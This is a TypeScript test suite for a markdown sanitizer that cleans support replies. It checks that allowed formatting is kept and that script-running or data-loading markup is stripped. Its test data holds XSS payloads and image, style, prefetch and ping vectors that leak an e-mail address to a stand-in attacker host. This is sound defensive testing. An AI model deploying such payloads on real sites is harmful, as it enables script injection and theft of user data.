import { cleanMarkdown, cleanReply, plainText } from '@frontdesk/conversations/messages/clean-reply'
import type { LinkRules } from '@frontdesk/conversations/messages/reply-links'
import t from 'tap'
import { xssVectors } from '../../../../test/e2e/xss-vectors.ts'

const links: LinkRules = {
  isAllowedHost: host => host === 'shop.example' || host.endsWith('.shop.example'),
  passages: [],
}
const clean = (markdown: string): string => cleanReply(markdown, links)

/** Everything that may stand between pointed brackets, letter by letter; whatever else opens one is an escape. */
const tag =
  /^<(?:\/?(?:p|b|strong|i|em|ul|ol|li|code|pre|blockquote|h3|h4|table|thead|tbody|tr|th|td|del)|\/a|(?:br|hr) ?\/?|a href="(?:https?:\/\/|mailto:|tel:)[^"<>\s]*")>$/
const illegalTags = (html: string): string[] => (html.match(/<[^>]*>?/g) ?? []).filter(found => !tag.test(found))

t.test('I22, row 13: everything that runs code or loads something is removed', async t => {
  t.ok(xssVectors.length >= 58)
  const more = [
    '[press](javascript:window.__xss=1)',
    '[press](java&#10;script:window.__xss=1)',
    '[press](&#x6A;avascript:window.__xss=1 "title")',
    '[press][ref]\n\n[ref]: javascript:window.__xss=1',
    '<javascript:window.__xss=1>',
    '[press](data:text/html;base64,PHNjcmlwdD4=)',
    '![x](javascript:window.__xss=1)',
    '[press](//evil.example/x)',
    '[press](https://shop.example/" onclick="window.__xss=1)',
    '`<img src=x onerror=window.__xss=1>`',
    '```html\n</code></pre><script>window.__xss=1</script>\n```',
    '| a |\n|---|\n| <img src=x onerror=window.__xss=1> |',
    '- [x] <input autofocus onfocus=window.__xss=1>',
    '<scr\u0000ipt>window.__xss=1</scr\u0000ipt>',
    '<h1 onclick="window.__xss=1">title</h1>',
    '<a href="https://shop.example/" target="_blank" rel="opener" id="panel">x</a>',
  ]
  for (const vector of [...xssVectors, ...more]) {
    for (const text of [vector, `Hello ${vector} there`, `- one\n- ${vector}\n`, `> ${vector}`, `**${vector}**`]) {
      t.same(illegalTags(clean(text)), [], text)
    }
  }
})

t.test('I22, row 14: data cannot leak in any of seven ways', async t => {
  const doors = {
    'inline image': '![x](https://evil.example/p?d=anna@shop.example)',
    'reference image and link': '![x][1] [go][1]\n\n[1]: https://evil.example/p?d=anna@shop.example',
    'image tag': '<img src="https://evil.example/p?d=anna@shop.example">',
    'style with an address':
      '<p style="background:url(https://evil.example/p?d=anna)">x</p><style>p{background:url(https://evil.example/)}</style>',
    'address by itself':
      'https://evil.example/p?d=anna and <https://evil.example/q?d=anna> and www.evil.example/r?d=anna',
    prefetch:
      '<link rel="prefetch" href="https://evil.example/p?d=anna"><a ping="https://evil.example/" href="https://shop.example/">x</a>',
    'link with the e-mail in its path': '[press](https://evil.example/anna%40shop.example/)',
  }
  for (const [name, markdown] of Object.entries(doors)) {
    const html = clean(`Our hours: ${markdown}`)
    t.notMatch(html, /(href|src|url|ping)[^<>]*evil\.example/, name)
    t.same(illegalTags(html), [], name)
    t.match(html, /Our hours/)
  }
})

t.test('what a support answer is made of is kept', async t => {
  t.equal(
    clean('# Hours\n\nWe are **open** *daily*, ~~not~~ `9-17`:\n\n- Mon\n- Tue\n\n1. first\n2. second'),
    '<h3>Hours</h3>\n<p>We are <strong>open</strong> <em>daily</em>, <del>not</del> <code>9-17</code>:</p>\n' +
      '<ul>\n<li>Mon</li>\n<li>Tue</li>\n</ul>\n<ol>\n<li>first</li>\n<li>second</li>\n</ol>',
  )
  t.equal(
    clean('| Day | Hours |\n|:--|--:|\n| Sat | 10-16 |'),
    '<table>\n<thead>\n<tr>\n<th>Day</th>\n<th>Hours</th>\n</tr>\n</thead>\n<tbody><tr>\n<td>Sat</td>\n<td>10-16</td>\n</tr>\n</tbody></table>',
  )
  t.equal(clean('one\ntwo'), '<p>one<br />two</p>')
  t.equal(clean('> wise\n\n---\n\n##### small'), '<blockquote>\n<p>wise</p>\n</blockquote>\n<hr />\n<h4>small</h4>')
  t.equal(clean('```\na < b && c\n```'), '<pre><code>a &lt; b &amp;&amp; c\n</code></pre>')
  t.equal(clean('Is 3 < 5 & "yes"? 😀'), '<p>Is 3 &lt; 5 &amp; "yes"? 😀</p>')
  t.equal(
    clean('https://shop.example/hours'),
    '<p><a href="https://shop.example/hours">https://shop.example/hours</a></p>',
  )
})

t.test('NUL and surrounding blanks do not reach the database', async t => {
  t.equal(clean('\u0000\n\n  yes\u0000!\n '), '<p>yes!</p>')
  t.equal(clean('<script>only this</script>'), '')
})

t.test('the plain text of a reply is what a screen reader would read', async t => {
  const words = (markdown: string): string => plainText(clean(markdown))
  t.equal(words('# Hours\n\n- Mon &amp; Tue\n- **Wed**'), 'Hours\nMon & Tue\nWed')
  t.equal(words('one\ntwo'), 'one\ntwo')
  t.equal(words('a < b, "quoted" and `x > 1`'), 'a < b, "quoted" and x > 1')
  t.equal(words('| Day | Hours |\n|--|--|\n| Sat | 10-16 |'), 'Day\nHours\nSat\n10-16')
  t.equal(words('&amp;lt;'), '&lt;', 'an entity is decoded once')
  t.equal(words('[here](https://shop.example/)'), 'here')
  t.equal(words('<img src=x>'), '')
})

/** Small numbers that look random and are the same in every run. */
function dice(seed: number): (sides: number) => number {
  let state = seed
  return sides => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    return Math.floor((state / 2 ** 32) * sides)
  }
}

t.test('plain sentences give the same bytes by the short way as by the long one', async t => {
  const roll = dice(42)
  const split = (text: string): string[] => text.split('¦')
  const plain = split(
    'a¦Z¦9¦é¦ß¦日¦ی¦€¦ ¦.¦,¦;¦:¦?¦!¦\'¦"¦(¦)¦%¦/¦$¦–¦—¦…¦“¦”¦„¦‘¦’¦«¦»¦-¦\n¦e\u0301¦😀¦👩\u200d👧¦ ¦\n\n¦www¦1.¦12)¦http¦24/7',
  )
  const rare = split(
    '*¦_¦`¦~¦[¦]¦<¦>¦&¦#¦|¦\\¦@¦+¦=¦{¦}¦\t¦\r¦\u00a0¦\u2028¦\u00ad¦//¦www.¦- ¦> ¦&amp;¦&#39;¦<b>¦    ¦\n\n\n',
  )
  const piece = (): string => (roll(40) === 0 ? rare[roll(rare.length)] : plain[roll(plain.length)]) ?? ''
  // A tag that no reply holds makes it take the long way.
  const longWords = (html: string): string => plainText(`${html}<u></u>`)
  for (let round = 0; round < 20_000; round += 1) {
    const text = Array.from({ length: 1 + roll(24) }, piece).join('')
    const [short, expected] = [clean(text), cleanMarkdown(text.trim(), links)]
    if (short !== expected) t.equal(short, expected, JSON.stringify(text))
    if (plainText(short) !== longWords(short)) t.equal(plainText(short), longWords(short), JSON.stringify(short))
    const said = text.replaceAll('<', '')
    if (plainText(said) !== longWords(said)) t.equal(plainText(said), longWords(said), JSON.stringify(said))
  }
  for (const vector of xssVectors) t.equal(plainText(clean(vector)), longWords(clean(vector)), vector.slice(0, 200))
  t.equal(
    clean('It’s open: 10–17, "daily"\nor so.\n\nYes (24/7).'),
    '<p>It’s open: 10–17, "daily"<br />or so.</p>\n<p>Yes (24/7).</p>',
  )
})

t.test('I29, row 83: no reply, however tangled, keeps the worker from others', async t => {
  const tangles =
    '[¦![¦[a](<¦*a **b¦_a __b¦~~a ~b¦`¦``a¦<¦<a ¦<!--¦<?¦<b>¦</b>¦> ¦>¦- ¦1. ¦--\n¦-\n¦=\n¦|a|\n|-|\n¦[a]: b\n¦[a]\n¦\\¦&¦a@b.¦a.¦ ¦\n¦ \n¦(¦"a '
  const longest = 6_400
  for (const tangle of tangles.split('¦')) {
    for (const text of [tangle.repeat(longest / tangle.length), `a${tangle.repeat(longest / tangle.length)}x`]) {
      // 50 ms each; `npm run bench -- hostile-texts` measures them.
      t.type(plainText(clean(text)), 'string', JSON.stringify(text.slice(0, 12)))
    }
  }
  t.equal(clean(`${'> '.repeat(3_000)}deep`).slice(0, 17), '<p>&gt; &gt; &gt;', 'what nobody can follow stays as it is')
  t.equal(clean(`${'*a **b '.repeat(400)}<b>`).slice(0, 14), '<p>*a **b *a *', 'and so do a thousand stars')
  t.match(clean(`${'> '.repeat(12)}wise`), /<blockquote>\n<p>wise/)
})
